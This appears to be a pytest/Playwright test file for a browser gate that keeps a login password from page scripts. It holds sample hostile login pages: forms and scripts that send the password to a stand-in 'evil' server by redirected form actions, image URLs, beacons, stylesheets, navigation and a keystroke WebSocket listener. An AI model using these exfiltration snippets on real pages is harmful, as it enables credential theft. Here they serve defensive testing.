"""Login pages that try to get at the password, in a real browser, against two real servers.

One server is the console, the other one belongs to somebody else. Whatever the page does, the
other one never hears the password, the console hears it at most once, and the page never has it.
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import http.server
import json
import socket
import struct
import threading
import time
import urllib.parse
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

import pytest
from playwright.sync_api import Browser, BrowserContext, Error, Frame, Page, Route

from pupitre.browser.gate import Gate
from pupitre.errors import StateUnusable

USER = "000"
SECRET = 'S3cr3t-é"&\\1'
WITHIN = 15.0

FORM = """<form method=post action=/api/login>
  <input name=user><input name=pass type=password><button>Connexion</button></form>"""
BY_SCRIPT = """<input name=user><input name=pass type=password><button onclick=login()>Connexion</button><script>
  const value = name => document.querySelector(`[name=${name}]`).value;
  const post = (path, body, headers) =>
    fetch(path, {method: 'POST', body, headers}).then(r => r.text(), e => 'stopped');
  const json = {'content-type': 'application/json'};
  const say = textContent =>
    document.body.append(Object.assign(document.createElement('p'), {id: 'said', textContent}));
"""


@dataclass
class Heard:
    """One request as it came over the wire."""

    method: str
    path: str
    headers: str
    body: bytes

    @property
    def everything(self) -> str:
        text = "\n".join([self.method, self.path, self.headers, self.body.decode("utf-8", "replace")])
        return text + "\n" + urllib.parse.unquote_plus(text)


@dataclass
class Server:
    """A server that answers what a test tells it and keeps all that it hears."""

    pages: dict[str, str] = field(default_factory=dict)
    login: Callable[[http.server.BaseHTTPRequestHandler], None] | None = None
    heard: list[Heard] = field(default_factory=list)

    def __enter__(self) -> Server:
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(self) -> None:
                if "websocket" in self.headers.get("Upgrade", ""):
                    self.hear(b"")
                    self.listen()
                    return
                self.hear(b"")
                page = outer.pages.get(self.path.partition("?")[0])
                answer(self, 200 if page is not None else 404, page or "nothing here")

            def do_POST(self) -> None:
                self.hear(self.rfile.read(int(self.headers.get("Content-Length") or 0)))
                if outer.login is not None and self.path == "/api/login":
                    outer.login(self)
                else:
                    answer(self, 200, "<h1>Bienvenue</h1>", **{"Set-Cookie": "session=1; HttpOnly; Path=/"})

            def do_PUT(self) -> None:
                self.do_POST()

            def hear(self, body: bytes) -> None:
                outer.heard.append(Heard(self.command, self.path, str(self.headers), body))

            def listen(self) -> None:
                """Accept a WebSocket and hear one message."""
                key = self.headers["Sec-WebSocket-Key"] + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
                accepted = base64.b64encode(hashlib.sha1(key.encode()).digest()).decode()
                self.send_response_only(101)
                for name, value in (
                    ("Upgrade", "websocket"),
                    ("Connection", "Upgrade"),
                    ("Sec-WebSocket-Accept", accepted),
                ):
                    self.send_header(name, value)
                self.end_headers()
                self.close_connection = True
                head = self.rfile.read(2)
                if len(head) == 2:
                    mask = self.rfile.read(4)
                    told = self.rfile.read(head[1] & 127)
                    outer.heard.append(Heard("WS", self.path, "", bytes(b ^ mask[i % 4] for i, b in enumerate(told))))

            def log_message(self, format: str, *args: object) -> None:
                pass

        self._http = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._http.daemon_threads = True
        self._thread = threading.Thread(target=self._http.serve_forever, args=(0.02,), daemon=True)
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._http.shutdown()
        self._http.server_close()

    @property
    def origin(self) -> str:
        return f"http://127.0.0.1:{self._http.server_address[1]}"

    @property
    def posts(self) -> list[Heard]:
        return [one for one in self.heard if one.method not in ("GET", "WS")]

    def hears(self, text: str) -> bool:
        return any(text in one.everything for one in self.heard)


def answer(handler: http.server.BaseHTTPRequestHandler, status: int, body: str, **headers: str) -> None:
    content = body.encode()
    handler.send_response(status)
    headers = {"Content-Type": "text/html; charset=utf-8", **headers, "Content-Length": str(len(content))}
    for name, value in headers.items():
        handler.send_header(name, value)
    handler.end_headers()
    handler.wfile.write(content)


@dataclass
class Visit:
    """A page of the console behind a gate."""

    page: Page
    gate: Gate
    console: Server
    evil: Server
    releases: list[int]

    def type(self, where: Page | None = None, user: str = USER) -> None:
        frame = where or self.page
        frame.fill("[name=user]", user)
        frame.fill("[name=pass]", self.gate.placeholder)

    def press(self) -> None:
        self.page.click("button", no_wait_after=True)

    def until(self, happened: Callable[[], object]) -> None:
        """Let the browser talk until something has happened."""
        end = time.monotonic() + WITHIN
        while not happened():
            assert time.monotonic() < end, f"{self.gate.result} {self.console.posts} {self.evil.heard}"
            self.page.context.cookies()

    def until_over(self) -> None:
        self.until(lambda: self.gate.result.http_status or self.gate.result.error)


@pytest.fixture
def console() -> Iterator[Server]:
    with Server() as server:
        yield server


@pytest.fixture
def evil() -> Iterator[Server]:
    with Server() as server:
        yield server


@pytest.fixture
def context(browser: Browser) -> Iterator[BrowserContext]:
    context = browser.new_context(service_workers="block")
    context.set_default_timeout(WITHIN * 1000)
    yield context
    context.close()


@pytest.fixture
def visit(context: BrowserContext, console: Server, evil: Server) -> Callable[..., Visit]:
    """Return a function that opens a page of the console behind a gate."""

    def go(html: str, *, start: str | None = None, paths: tuple[str, ...] = ("/api/login",), **how: float) -> Visit:
        console.pages.setdefault("/", f"<meta charset=utf-8>{html.replace('EVIL', evil.origin)}")
        page, releases = context.new_page(), []

        def released() -> None:
            releases.append(len(console.posts))

        gate = Gate(
            context,
            origin=console.origin,
            user=USER,
            secret=lambda: SECRET,
            login_paths=paths,
            on_release=released,
            **how,
        )
        page.goto(start or f"{console.origin}/")
        gate.__enter__()
        return Visit(page, gate, console, evil, releases)

    return go


Open = Callable[..., Visit]


def check(seen: Visit, *, posts: int) -> None:
    """The promises: nothing for others, at most one for the console, nothing in the page."""
    assert not seen.evil.hears(SECRET)
    assert len(seen.console.posts) == posts <= 1
    assert seen.releases == [0] * posts
    assert seen.gate.result.released == bool(posts)
    for page in seen.page.context.pages:
        for frame in page.frames:
            assert "S3cr3t" not in all_that_a_page_holds(frame)


def all_that_a_page_holds(frame: Frame) -> str:
    """Return its markup, address, cookies, store and fields; an error page, which may be on its way, has no store."""
    asked = """() => [
      document.documentElement.outerHTML, location.href,
      ...location.protocol.startsWith('http') ? [document.cookie, ...Object.values({...localStorage})] : [],
      ...[...document.querySelectorAll('input')].map(i => i.value)].join(' ')"""
    for _ in range(5):
        frame.wait_for_load_state()
        with contextlib.suppress(Error):
            held: str = frame.evaluate(asked)
            return held
    raise AssertionError("the page never came to rest")


def test_a_plain_form_signs_in_and_the_page_never_has_the_password(visit: Open) -> None:
    seen = visit(FORM)
    seen.type()
    assert seen.page.locator("[name=pass]").input_value() == seen.gate.placeholder
    seen.press()
    seen.page.get_by_role("heading", name="Bienvenue").wait_for()
    check(seen, posts=1)
    (post,) = seen.console.posts
    assert dict(urllib.parse.parse_qsl(post.body.decode())) == {"user": USER, "pass": SECRET}
    assert seen.gate.result.http_status == 200
    assert seen.gate.result.body_text == "<h1>Bienvenue</h1>"
    assert [cookie["name"] for cookie in seen.page.context.cookies()] == ["session"]


def test_a_script_that_posts_json_signs_in(visit: Open) -> None:
    seen = visit(
        BY_SCRIPT
        + "const login = () => post('/api/login', JSON.stringify({Username: value('user'), Password: value('pass')}),"
        " json).then(say)</script>"
    )
    seen.type()
    seen.press()
    seen.page.locator("#said").wait_for()
    check(seen, posts=1)
    assert json.loads(seen.console.posts[0].body) == {"Username": USER, "Password": SECRET}


def test_a_multipart_form_signs_in(visit: Open) -> None:
    seen = visit(FORM.replace("<form", "<form enctype=multipart/form-data"))
    seen.type()
    seen.press()
    seen.page.get_by_role("heading", name="Bienvenue").wait_for()
    check(seen, posts=1)
    assert f'name="pass"\r\n\r\n{SECRET}\r\n'.encode() in seen.console.posts[0].body


STOPPED = {
    "a form that posts elsewhere": FORM.replace("action=/api", "action=EVIL/api"),
    "a base address elsewhere": "<base href=EVIL/>" + FORM.replace("action=/api", "action=api"),
    "a form sent by GET": FORM.replace("method=post", "method=get"),
    "a button with an address of its own": FORM.replace("<button", "<button formaction=EVIL/api/login"),
    "an address that changes at the last moment": FORM.replace(
        "<form", "<form onsubmit=\"this.action='EVIL/api/login'\""
    ),
    "a method that changes at the last moment": FORM.replace("<form", "<form onsubmit=\"this.method='get'\""),
    "an account that changes at the last moment": FORM.replace("<form", "<form onsubmit=\"this.user.value='admin'\""),
    "a second password field": FORM.replace("<button", "<input name=copy type=password><button").replace(
        "<form", '<form onsubmit="this.copy.value=this.pass.value"'
    ),
    "a field that cuts the password": FORM.replace("type=password", "type=password maxlength=12"),
    "a page that turns it into base64": FORM.replace("<form", '<form onsubmit="this.pass.value=btoa(this.pass.value)"'),
    "a page that hashes it": FORM.replace("<form", "<form onsubmit=\"this.pass.value='5f4dcc3b5aa765d6'\""),
    "a page of the console that is no login": FORM.replace("/api/login", "/api/comments"),
    "an account in the address": FORM.replace("action=/api", "action=http://x:y@127.0.0.1:0/api"),
}


@pytest.mark.parametrize("html", STOPPED.values(), ids=STOPPED)
def test_a_form_that_is_not_the_consoles_login_gets_nothing(visit: Open, html: str) -> None:
    seen = visit(html)
    seen.type()
    seen.press()
    seen.until(lambda: seen.gate.result.aborted or "chrome-error" in seen.page.url)
    check(seen, posts=0)
    assert seen.evil.heard == []


def test_a_form_that_opens_a_new_window_gets_nothing(visit: Open) -> None:
    seen = visit(FORM.replace("<form", "<form target=_blank"))
    seen.type()
    seen.press()
    seen.until(lambda: seen.gate.result.aborted)
    check(seen, posts=0)


SCRIPTS = {
    "in a header": "fetch('/api/login',"
    " {method: 'POST', headers: {authorization: 'Basic ' + btoa('000:' + value('pass'))}})",
    "by another method": "fetch('/api/login', {method: 'PUT', body: JSON.stringify([value('user'), value('pass')])})",
    "in the address of a post": "post('/api/login?p=' + value('pass'),"
    " JSON.stringify({u: '000', p: value('pass')}), json)",
    "as a file": "post('/api/login', new Blob([value('user') + value('pass')]))",
    "to another port": "post('EVIL/api/login', JSON.stringify({u: '000', p: value('pass')}))",
    "in base64 to another port": "post('EVIL/x', btoa('u:' + value('pass')))",
    "percent by percent": "fetch('EVIL/?' + [...value('pass')].map(c => '%' + c.charCodeAt(0).toString(16)).join(''))",
    "as a picture": "Promise.resolve(new Image().src = 'EVIL/i.png?' + value('pass'))",
    "by a beacon": "Promise.resolve(navigator.sendBeacon('EVIL/b', value('pass')))",
    "as a stylesheet": "Promise.resolve(document.head.append(Object.assign(document.createElement('link'),"
    " {rel: 'stylesheet', href: 'EVIL/' + value('pass')})))",
    "by leaving": "Promise.resolve(location = 'EVIL/?' + value('pass'))",
    "to the console itself, as a comment": "post('/comments', value('pass'))",
}


@pytest.mark.parametrize("script", SCRIPTS.values(), ids=SCRIPTS)
def test_a_script_that_sends_it_otherwise_sends_nothing(visit: Open, script: str) -> None:
    seen = visit(f"{BY_SCRIPT} const login = () => {script}.then(() => say('done'), () => say('done'))</script>")
    seen.type()
    seen.press()
    seen.until(lambda: seen.gate.result.aborted)
    check(seen, posts=0)
    assert seen.evil.heard == []


def test_a_page_that_counts_on_an_address_of_ours_in_a_frame_gets_nothing(visit: Open, console: Server) -> None:
    console.pages["/login"] = FORM
    seen = visit("<iframe src=/login></iframe>")
    frame = seen.page.frames[1]
    frame.fill("[name=user]", USER)
    frame.fill("[name=pass]", seen.gate.placeholder)
    frame.click("button", no_wait_after=True)
    seen.until(lambda: seen.gate.result.aborted)
    check(seen, posts=0)


def test_a_foreign_page_that_frames_the_console_gets_nothing(visit: Open, console: Server, evil: Server) -> None:
    evil.pages["/"] = f"<iframe src={console.origin}/></iframe>"
    seen = visit(FORM, start=f"{evil.origin}/")
    frame = seen.page.frames[1]
    frame.fill("[name=user]", USER)
    frame.fill("[name=pass]", seen.gate.placeholder)
    frame.click("button", no_wait_after=True)
    seen.until(lambda: seen.gate.result.aborted)
    check(seen, posts=0)


def test_a_console_that_sends_the_visitor_elsewhere_first_gets_nothing(
    visit: Open, console: Server, evil: Server
) -> None:
    """The other page looks the same, and posts to the console or to itself."""
    evil.pages["/"] = FORM.replace("action=/api", f"action={console.origin}/api")
    seen = visit("<meta http-equiv=refresh content='0; url=EVIL/'>")
    seen.page.wait_for_url(f"{evil.origin}/")
    seen.type()
    seen.press()
    seen.until(lambda: seen.gate.result.aborted)
    check(seen, posts=0)


@pytest.mark.parametrize("status", [307, 308, 301, 302, 303])
def test_a_redirect_to_another_place_is_not_followed(visit: Open, console: Server, evil: Server, status: int) -> None:
    console.login = lambda handler: answer(handler, status, "", Location=f"{evil.origin}/api/login")
    seen = visit(FORM)
    seen.type()
    seen.press()
    seen.until_over()
    check(seen, posts=1)
    assert evil.heard == []
    assert (seen.gate.result.http_status, "redirects" in str(seen.gate.result.error)) == (status, True)


def test_a_redirect_that_wants_the_password_again_is_not_followed(visit: Open, console: Server) -> None:
    console.login = lambda handler: answer(handler, 307, "", Location="/api/login/again")
    seen = visit(FORM)
    seen.type()
    seen.press()
    seen.until_over()
    check(seen, posts=1)


def test_a_redirect_to_the_next_page_of_the_console_is_followed_without_it(visit: Open, console: Server) -> None:
    console.pages["/app"] = "<h1>Extensions</h1>"
    console.login = lambda handler: answer(
        handler, 303, "", Location="/app", **{"Set-Cookie": "session=1; HttpOnly; Path=/"}
    )
    seen = visit(FORM)
    seen.type()
    seen.press()
    seen.page.get_by_role("heading", name="Extensions").wait_for()
    check(seen, posts=1)
    followed = console.heard[-1]
    assert (followed.method, followed.path, followed.body) == ("GET", "/app", b"")
    assert "session=1" in followed.headers
    assert SECRET not in followed.everything


def test_a_page_that_submits_by_itself_while_one_types_posts_once(visit: Open) -> None:
    seen = visit(FORM.replace("type=password", "type=password oninput=this.form.submit()"))
    seen.type()
    seen.page.get_by_role("heading", name="Bienvenue").wait_for()
    check(seen, posts=1)


def test_a_page_that_submits_at_every_key_posts_at_most_once(visit: Open) -> None:
    """What is typed so far is no password: it is stopped; so is what comes after the whole."""
    seen = visit(
        BY_SCRIPT + "let tries = 0; document.querySelector('[type=password]').oninput = () =>"
        " post('/api/login', JSON.stringify({u: '000', p: value('pass')}), json).then(() => tries += 1);"
        " const login = () => 0</script>"
    )
    seen.page.fill("[name=user]", USER)
    seen.page.locator("[name=pass]").press_sequentially(seen.gate.placeholder)
    seen.page.wait_for_function(f"tries === {len(seen.gate.placeholder)}")
    check(seen, posts=1)
    assert SECRET in json.loads(seen.console.posts[0].body)["p"]


def test_a_page_that_posts_six_times_posts_once(visit: Open) -> None:
    seen = visit(
        BY_SCRIPT + "const login = () => Promise.all([...Array(6)].map(() =>"
        " post('/api/login', JSON.stringify({u: '000', p: value('pass')}), json)))"
        ".then(all => say(all.join()))</script>"
    )
    seen.type()
    seen.press()
    seen.page.locator("#said").wait_for()
    check(seen, posts=1)
    assert len(seen.gate.result.aborted) == 5
    assert {one.why for one in seen.gate.result.aborted} == {"a second password"}


def test_a_page_that_tries_again_after_a_refusal_posts_once(visit: Open, console: Server) -> None:
    console.login = lambda handler: answer(handler, 401, "no")
    seen = visit(
        BY_SCRIPT + "const once = () => post('/api/login', JSON.stringify({u: '000', p: value('pass')}), json);"
        " const login = () => once().then(once).then(once).then(say)</script>"
    )
    seen.type()
    seen.press()
    seen.page.locator("#said").wait_for()
    check(seen, posts=1)
    assert seen.gate.result.http_status == 401


def test_a_listener_at_the_keyboard_hears_only_the_placeholder(visit: Open) -> None:
    seen = visit(
        FORM + "<script>document.querySelector('[name=pass]').addEventListener('input', event => {"
        " new Image().src = 'EVIL/i.png?' + event.target.value; navigator.sendBeacon('EVIL/b', event.target.value);"
        " const ws = new WebSocket('EVIL/ws'.replace('http', 'ws')); ws.onopen = () => ws.send(event.target.value);"
        "})</script>"
    )
    seen.type()
    seen.until(lambda: any(one.method == "WS" for one in seen.evil.heard))
    seen.press()
    seen.page.get_by_role("heading", name="Bienvenue").wait_for()
    check(seen, posts=1)
    assert {one.method for one in seen.evil.heard} == {"GET", "WS"}
    assert seen.evil.hears(seen.gate.placeholder), "the listener did listen"
    assert seen.gate.result.error is None


def test_a_console_that_says_the_password_back_does_not_put_it_into_the_page(visit: Open, console: Server) -> None:
    def echo(handler: http.server.BaseHTTPRequestHandler) -> None:
        import html

        answer(
            handler,
            200,
            f"<h1>Bonjour</h1><p>{html.escape(SECRET)}<script>var p = {json.dumps(SECRET)}</script>",
            **{"X-Said": urllib.parse.quote(SECRET)},
        )

    console.login = echo
    seen = visit(FORM)
    seen.type()
    seen.press()
    seen.page.get_by_role("heading", name="Bonjour").wait_for()
    check(seen, posts=1)
    assert seen.gate.result.echoed
    assert "S3cr3t" not in seen.gate.result.body_text
    assert seen.page.evaluate("p") == seen.gate.placeholder


def test_a_page_that_remembers_the_password_remembers_the_placeholder(visit: Open) -> None:
    seen = visit(
        FORM.replace(
            "<form", "<form onsubmit=\"localStorage.p = this.pass.value; document.cookie = 'p=' + this.pass.value\""
        )
    )
    seen.type()
    seen.press()
    seen.page.get_by_role("heading", name="Bienvenue").wait_for()
    check(seen, posts=1)
    assert seen.page.evaluate("localStorage.p") == seen.gate.placeholder


def test_no_answer_in_time_is_an_error_and_counts_as_released(visit: Open, console: Server) -> None:
    over = threading.Event()

    def silent(handler: http.server.BaseHTTPRequestHandler) -> None:
        over.wait(WITHIN)

    console.login = silent
    seen = visit(FORM, answer_within=0.3)
    seen.type()
    seen.press()
    seen.until_over()
    over.set()
    check(seen, posts=1)
    assert seen.gate.result.error == "no answer within 0.3 s"
    assert seen.gate.result.http_status is None


def test_a_connection_that_is_reset_counts_as_released(visit: Open, console: Server) -> None:
    def reset(handler: http.server.BaseHTTPRequestHandler) -> None:
        handler.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        handler.connection.close()
        handler.close_connection = True

    console.login = reset
    seen = visit(FORM)
    seen.type()
    seen.press()
    seen.until_over()
    check(seen, posts=1)
    assert seen.gate.result.error == "the connection ended without an answer"


def test_a_console_that_is_gone_heard_nothing(visit: Open, console: Server) -> None:
    seen = visit(FORM)
    seen.type()
    console._http.shutdown()
    console._http.server_close()
    seen.press()
    seen.until_over()
    assert seen.releases == [0]
    assert not seen.gate.result.released
    assert seen.gate.result.error == "the console can't be reached"


def test_without_a_written_reservation_nothing_leaves(visit: Open, console: Server, context: BrowserContext) -> None:
    def full() -> None:
        raise StateUnusable("the disk is full")

    console.pages["/"] = FORM
    page = context.new_page()
    page.goto(f"{console.origin}/")
    gate = Gate(
        context, origin=console.origin, user=USER, secret=lambda: SECRET, login_paths=("/api/login",), on_release=full
    )
    with pytest.raises(StateUnusable, match="full"), gate:
        submit(page, gate)
    assert console.posts == []
    assert not gate.result.released


def test_the_gate_is_gone_after_signing_in(visit: Open) -> None:
    seen = visit(FORM)
    seen.type()
    seen.press()
    seen.page.get_by_role("heading", name="Bienvenue").wait_for()
    seen.gate.__exit__(None, None, None)
    assert seen.page.evaluate("p => fetch('/?' + p).then(r => r.status)", seen.gate.placeholder) == 200


@pytest.mark.parametrize("error", [None, RuntimeError()], ids=["nothing left", "an error"])
def test_the_gate_stays_shut_while_the_page_holds_the_placeholder(visit: Open, error: Exception | None) -> None:
    """A page that submits late, after the run gave up, would send a wrong password."""
    seen = visit(FORM)
    seen.type()
    seen.gate.__exit__(type(error) if error else None, error, None)
    seen.press()
    seen.until(lambda: seen.gate.result.aborted)
    check(seen, posts=0)


def test_other_requests_go_on_to_the_routes_below(visit: Open, context: BrowserContext) -> None:
    asked = []

    def below(route: Route) -> None:
        asked.append(route.request.url)
        route.continue_()

    context.route("**/*", below)
    seen = visit(FORM)
    assert seen.page.evaluate("fetch('/other').then(r => r.status)") == 404
    assert f"{seen.console.origin}/other" in asked
    seen.type()
    seen.press()
    seen.page.get_by_role("heading", name="Bienvenue").wait_for()
    assert f"{seen.console.origin}/api/login" not in asked


def test_without_named_paths_any_path_of_the_console_may_be_the_login(visit: Open, console: Server) -> None:
    seen = visit(FORM.replace("/api/login", "/session"), paths=())
    seen.type()
    seen.press()
    seen.page.get_by_role("heading", name="Bienvenue").wait_for()
    check(seen, posts=1)
    assert console.posts[0].path == "/session"


def test_what_was_stopped_is_told_without_what_it_carried(visit: Open) -> None:
    seen = visit(FORM.replace("method=post", "method=get"))
    seen.type()
    seen.press()
    seen.until(lambda: seen.gate.result.aborted)
    (stopped,) = seen.gate.result.aborted
    assert (stopped.method, stopped.where, stopped.why) == (
        "GET",
        f"{seen.console.origin}/api/login",
        "not a POST",
    )


def submit(page: Page, gate: Gate) -> None:
    page.fill("[name=user]", USER)
    page.fill("[name=pass]", gate.placeholder)
    page.click("button", no_wait_after=True)
    end = time.monotonic() + WITHIN
    while gate.result.error is None:
        assert time.monotonic() < end
        page.context.cookies()
